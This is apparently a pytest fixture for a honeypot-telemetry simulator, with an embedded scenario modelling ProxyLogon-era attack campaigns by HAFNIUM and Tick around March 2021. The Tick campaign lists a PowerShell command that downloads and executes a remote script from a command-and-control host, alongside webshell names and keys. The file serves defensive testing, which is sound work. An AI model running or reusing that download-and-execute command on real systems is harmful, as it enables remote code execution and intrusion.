"""A small scenario with every kind of source, simulated once per test session in store mode."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest

from honeyscope.simulate import GroundTruth, SimulationReport, parse_scenario, simulate

#: 30 days around the ProxyLogon disclosure at a tenth of the built-in volumes: HAFNIUM before the patch,
#: Tick after it, a mass wave of checks from 2021-03-03 (most from CN), a noisy scanner in a Chinese /24
#: that starts checking the same day, one sensor down for three days.
SMALL = """
[simulation]
start = 2021-02-15
days = 30
sensors = 3

[noise]
daily_events = 150.0
addresses_per_country = 30
[noise.countries]
US = 4
CN = 3
DE = 2
BR = 1
VN = 1

[[scanner]]
name = "Censys"
daily_events = 10.0
[[scanner]]
name = "Shadowserver"
daily_events = 5.0

[[campaign]]
id = "hafnium-proxylogon"
actor = "hafnium"
kind = "proxylogon"
start = 2021-01-06
end = 2021-03-04
daily_sessions = 0.6
addresses = ["104.140.114.110", "108.61.246.56", "149.28.14.163", "157.230.221.198", "203.160.69.66"]
shell_names = ["OutlookZH.aspx", "errorPage.aspx"]
shell_key = "qPw8Lx3zT"
commands = ["cmd /c whoami"]
revisit = 0.3

[[campaign]]
id = "tick"
actor = "tick"
kind = "proxylogon"
style = "metasploit"
start = 2021-03-01
daily_sessions = 0.5
countries = { KR = 1 }
address_count = 2
shell_names = ["aspnet.aspx"]
shell_key = "tk0rS2"
commands = ["powershell -c IEX (New-Object Net.WebClient).DownloadString('http://{c2}/up.ps1')"]
c2 = ["www.averyspace.net"]

[[campaign]]
id = "mass-checks"
kind = "proxylogon-check"
start = 2021-03-03
daily_sessions = 40.0
countries = { CN = 4, US = 2, DE = 1 }
address_count = 60

[[campaign]]
id = "cn-noisy-scanner"
kind = "scan"
daily_sessions = 12.0
countries = { CN = 1 }
address_count = 3
block = true
checks_since = 2021-03-03
tools = ["css-nse", "goby"]
noise_only = true

[[outage]]
start = 2021-02-20
end = 2021-02-22
sensors = ["decoy-03"]
"""


@dataclass(frozen=True)
class Run:
    data: Path
    report: SimulationReport

    @property
    def truth(self) -> GroundTruth:
        return self.report.truth


@pytest.fixture(scope="session")
def small_run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    data = tmp_path_factory.mktemp("simulated")
    report = simulate(data, parse_scenario(SMALL, "test scenario"), seed=11, scenario_text=SMALL)
    return Run(data, report)
